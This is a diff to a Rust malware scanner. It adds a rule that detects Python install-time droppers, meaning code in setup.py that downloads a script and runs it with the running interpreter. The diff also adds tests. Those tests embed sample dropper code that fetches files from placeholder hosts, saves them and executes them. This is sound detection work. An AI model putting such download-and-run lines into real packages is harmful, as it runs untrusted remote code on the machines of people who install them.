@@ -33,6 +33,15 @@ pub(crate) static DOWNLOAD_WRITE_RUN: FileDetector = FileDetector {
     run: report_droppers,
 };
 
+/// The same dropper in install-time code (rule scoped to `setup.py` and its kin), where a downloaded
+/// script started with the running interpreter (`[sys.executable, path]`) counts too: nothing a build
+/// needs is fetched and run as Python while `pip install` runs. Only runs the plain dropper would not
+/// report are reported here, and only when no function starts between the save and the run.
+pub(crate) static INSTALL_DOWNLOAD_RUN_PYTHON: FileDetector = FileDetector {
+    literals: &["executable"],
+    run: report_install_time_interpreter_runs,
+};
+
 // Constant patterns (their tests compile them): `expect` never sees scanned data.
 #[allow(clippy::expect_used)]
 static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
@@ -102,6 +111,26 @@ const LAUNCHERS: &[&str] = &[
     "wscript",
     "cscript",
 ];
+/// The running interpreter, as a launcher of a saved script: counted only in install-time code.
+const INTERPRETER: &[&str] = &["sys.executable", "executable"];
+
+/// Resolved callee names that fetch from the network (an import alias, `import requests as r`, is read
+/// through by `write_run::calls`; the [`DOWNLOAD`] pattern reads the name as written).
+fn is_download_call(name: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    let (module, function) = name.rsplit_once('.').unwrap_or(("", name.as_str()));
+    (matches!(module, "requests" | "httpx" | "urllib3")
+        && matches!(function, "get" | "request" | "post"))
+        || matches!(function, "urlopen" | "urlretrieve")
+}
+
+/// A function or class definition line: the save and the run sit in different bodies when one lies
+/// between them.
+#[allow(clippy::expect_used)]
+static DEFINITION: LazyLock<Regex> = LazyLock::new(|| {
+    ascii_regex(r"(?m)^[ \t]*(?:async[ \t]+)?(?:def|class)[ \t]").expect("definition pattern")
+});
+
 /// Parts of an expression that build a directory in front of the file name.
 const PATH_BUILDERS: &[&str] = &[
     "getcwd",
@@ -123,14 +152,33 @@ const PATH_BUILDERS: &[&str] = &[
 ];
 
 fn report_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
+    report(segment, text, false, keep);
+}
+
+fn report_install_time_interpreter_runs(
+    segment: &Segment,
+    text: &str,
+    keep: &mut dyn FnMut(Hit) -> bool,
+) {
+    report(segment, text, true, keep);
+}
+
+/// Reports droppers; with `interpreter`, only those whose run starts the saved file with the running
+/// interpreter, within one function body.
+fn report(segment: &Segment, text: &str, interpreter: bool, keep: &mut dyn FnMut(Hit) -> bool) {
     let body = segment.text(text);
     if body.len() > MAX_SEGMENT_BYTES || PINNED_DIGEST.is_match(body) {
         return;
     }
-    let Some(first_download) = DOWNLOAD.find(body).map(|m| m.start()) else {
+    let all = super::write_run::segment_calls(segment, text);
+    let written = DOWNLOAD.find(body).map(|m| m.start());
+    let aliased = all
+        .iter()
+        .find(|c| is_download_call(&c.name))
+        .map(|c| c.start);
+    let Some(first_download) = written.into_iter().chain(aliased).min() else {
         return;
     };
-    let all = super::write_run::segment_calls(segment, text);
     let saved = writes(body, all);
     let mut reported = std::collections::HashSet::new();
     for write in &saved {
@@ -144,7 +192,23 @@ fn report_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> b
                 && runs_program(&c.name)
         });
         for run in runs {
-            let Some(key) = write.keys.iter().find(|k| runs_as_program(&run.args, k)) else {
+            let found = if interpreter {
+                let plain = |k: &&Key| runs_as_program(&run.args, k, false);
+                let between = body.get(write.at..run.start).unwrap_or("");
+                if write.keys.iter().any(|k| plain(&k)) || DEFINITION.is_match(between) {
+                    continue;
+                }
+                write
+                    .keys
+                    .iter()
+                    .find(|k| runs_as_program(&run.args, k, true))
+            } else {
+                write
+                    .keys
+                    .iter()
+                    .find(|k| runs_as_program(&run.args, k, false))
+            };
+            let Some(key) = found else {
                 continue;
             };
             let taint_reports = || {
@@ -183,8 +247,9 @@ fn report_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> b
     }
 }
 
-/// Whether the command `args` runs the file `key` names as its program.
-fn runs_as_program(args: &str, key: &Key) -> bool {
+/// Whether the command `args` runs the file `key` names as its program; with `interpreter`, the running
+/// interpreter (`sys.executable`) is a launcher too.
+fn runs_as_program(args: &str, key: &Key, interpreter: bool) -> bool {
     let plain = STRING_PREFIX.replace_all(args, "$1");
     let words = plain
         .split(|c: char| {
@@ -224,6 +289,7 @@ fn runs_as_program(args: &str, key: &Key) -> bool {
             continue;
         }
         let skip = LAUNCHERS.contains(&lower.as_str())
+            || (interpreter && INTERPRETER.contains(&lower.as_str()))
             || PATH_BUILDERS.iter().any(|b| lower.contains(b))
             || lower.contains('=')
             || lower.chars().all(|c| !c.is_alphanumeric());
@@ -305,6 +371,42 @@ mod tests {
         assert_eq!(fired(script, Language::Python, "pkg/fetch.py").len(), 1);
         let cd = "import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://files.example.invalid/agent').content)\nsystem('cd /tmp && chmod +x agent && ./agent')";
         assert_eq!(fired(cd, Language::Python, "setup.py").len(), 1);
+    }
+
+    fn fired_at_install(text: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        for segment in segment_file(text, Language::Python, "setup.py") {
+            (INSTALL_DOWNLOAD_RUN_PYTHON.run)(&segment, text, &mut |hit| {
+                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
+                true
+            });
+        }
+        out
+    }
+
+    #[test]
+    fn a_download_run_with_the_running_interpreter_fires_at_install() {
+        // The download goes through an import alias the written-name pattern does not know.
+        let aliased = "import subprocess, sys\nimport requests as up\nclass I(install):\n    def run(self):\n        r = up.get('https://cdn.example.invalid/p.py')\n        with open('p.py', 'wb') as f:\n            f.write(r.content)\n        subprocess.check_call([sys.executable, 'p.py'])\n";
+        assert_eq!(fired_at_install(aliased).len(), 1);
+        let joined = "import os, sys, urllib.request\nurllib.request.urlretrieve('https://cdn.example.invalid/s.py', '/tmp/s.py')\nos.system(sys.executable + ' /tmp/s.py')\n";
+        assert_eq!(fired_at_install(joined).len(), 1);
+        // The plain dropper does not take the interpreter as a launcher; it stays quiet on both.
+        assert!(fired(aliased, Language::Python, "setup.py").is_empty());
+    }
+
+    #[test]
+    fn interpreter_runs_of_other_files_or_in_another_body_are_quiet_at_install() {
+        // The interpreter runs the package's own generator; the download is its input.
+        let input = "import subprocess, sys, urllib.request\nurllib.request.urlretrieve('https://data.example.invalid/t.txt', 't.txt')\nsubprocess.check_call([sys.executable, 'tools/gen.py', 't.txt'])\n";
+        assert!(fired_at_install(input).is_empty());
+        // Saved in one function, run in another that nothing shows is called after it.
+        let apart = "import subprocess, sys, requests\ndef fetch():\n    open('g.py', 'wb').write(requests.get('https://x.example.invalid/g.py').content)\ndef later():\n    subprocess.check_call([sys.executable, 'g.py'])\n";
+        assert!(fired_at_install(apart).is_empty());
+        // A launcher the plain dropper knows is its finding, not this one's.
+        let plain = "import os, requests\nopen('a.py', 'wb').write(requests.get('https://x.example.invalid/a.py').content)\nos.system('python a.py')\n";
+        assert!(fired_at_install(plain).is_empty());
+        assert_eq!(fired(plain, Language::Python, "setup.py").len(), 1);
     }
 
     #[test]
